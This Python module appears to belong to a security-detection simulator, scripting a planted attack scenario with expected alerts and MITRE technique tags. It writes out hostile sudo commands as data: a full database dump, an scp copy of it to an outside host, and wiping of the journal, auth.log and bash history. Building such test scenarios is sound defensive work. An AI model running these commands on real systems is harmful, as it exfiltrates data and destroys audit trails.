"""A newcomer becomes root on the database server for the first time, at night, and wipes the logs."""

from __future__ import annotations

from collections.abc import Iterable

from breachwatch.simulate.dice import Dice
from breachwatch.simulate.happenings import Happening, SshSession, Sudo
from breachwatch.simulate.inventory import NEWCOMER
from breachwatch.simulate.planted import Planted
from breachwatch.simulate.span import MINUTE, SECOND
from breachwatch.simulate.timeline import Stage
from breachwatch.simulate.truth import Kind, Story

_HOST, _FROM = "db01", "10.20.150.77"
_COMMANDS = (
    (2, "/usr/bin/pg_dumpall -f /tmp/.d", 200),
    (9, "/usr/bin/scp /tmp/.d intern1@203.0.113.88:", 90),
    (14, "/usr/bin/journalctl --vacuum-time=1s", 2),
    (15, "/usr/bin/truncate -s 0 /var/log/auth.log", 1),
    (16, "/usr/bin/rm -f /root/.bash_history", 1),
)


class NewcomerBecomesRoot(Planted):
    """At 00:48."""

    story = Story(
        id="A07-newcomer-root",
        kind=Kind.ATTACK,
        name="First sudo to root by a newcomer at night, then logs tampered with",
        about=(
            "`intern1`, who never used sudo, signs in to db01 at night, dumps the databases as root, sends them out, "
            "and empties the journal and the authentication log. (The simulated log keeps its lines: they were "
            "forwarded before.)"
        ),
        techniques=("T1078.003", "T1548.003", "T1005", "T1048", "T1070.002", "T1070.003"),
        accounts=(NEWCOMER.user,),
        hosts=(_HOST,),
        addresses=(_FROM, "203.0.113.88"),
        expected=(
            "sudo to root by a newcomer",
            "sign-in outside hours",
            "log cleared: journal or log file emptied on Linux",
        ),
    )

    def script(self, stage: Stage, dice: Dice) -> Iterable[Happening]:
        at = stage.span.at(stage.span.day_before_end(3), 0, 48) + dice.between(0, 59_999_999)
        yield SshSession(
            at=at,
            host=_HOST,
            user=NEWCOMER.user,
            address=_FROM,
            port=dice.port(),
            until=at + 19 * MINUTE,
            method="password",
        )
        for minutes, command, seconds in _COMMANDS:
            yield Sudo(
                at=at + minutes * MINUTE + dice.between(0, 30) * SECOND,
                host=_HOST,
                user=NEWCOMER.user,
                command=command,
                seconds=seconds,
            )
